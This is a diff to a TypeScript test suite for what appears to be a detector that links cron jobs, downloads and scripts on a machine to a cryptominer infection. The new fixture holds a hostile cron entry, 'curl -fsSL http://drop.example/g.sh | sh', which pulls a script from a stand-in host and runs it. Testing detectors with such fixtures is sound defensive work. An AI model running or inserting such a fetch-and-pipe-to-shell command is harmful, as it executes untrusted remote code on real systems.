@@ -86,14 +86,24 @@ describe('a miner that an entry starts, with its configuration in its own folder
 });
 
 describe('a script that fetches the miner’s file', () => {
-  const fetching = (place: string): string | undefined => {
+  const fetching = (place: string): ReturnType<typeof proofs> => {
     const download = {
       in: place,
       kind: 'download',
       value: { url: 'http://drop.example/x', tool: 'curl', target: miner, runs: false },
     } as OnMachine; // only what the test needs
+    const starts = 'curl -fsSL http://drop.example/g.sh | sh';
+    const again = cron({
+      place: other,
+      entry: starts,
+      starts,
+      programs: [],
+      user: 'ann',
+      why: ['fetches-and-runs'],
+      modified: at,
+    });
     const evidence = makeMachineCase(
-      [code, config(`${folder}/c.json`), cron(), trace(miner), trace(place, { form: 'script' }), download],
+      [code, config(`${folder}/c.json`), cron(), trace(miner), trace(place, { form: 'script' }), download, again],
       [
         { detector: 'miner-binary', stage: 'capability', over: [0] },
         { detector: 'mining-account', stage: 'configured', over: [1] },
@@ -101,10 +111,16 @@ describe('a script that fetches the miner’s file', () => {
       ],
       { [`${folder}/c.json`]: 'text', [place]: 'script' },
     );
-    return proofs(evidence)[place];
+    return proofs(evidence);
   };
+  const other = '/etc/cron.d/zz';
+  const at = '2026-11-19T03:13:00.000Z';
 
   test('is the miner’s, where it lies in a folder for temporary files', () => {
-    expect(fetching('/tmp/.gs/g.sh')).toBe('shown');
+    expect(fetching('/tmp/.gs/g.sh')['/tmp/.gs/g.sh']).toBe('shown');
+  });
+
+  test('tells where the miner is fetched from, so that what fetches from there at that time is the miner’s as well', () => {
+    expect(fetching('/tmp/.gs/g.sh')[other]).toBe('shown');
   });
 });
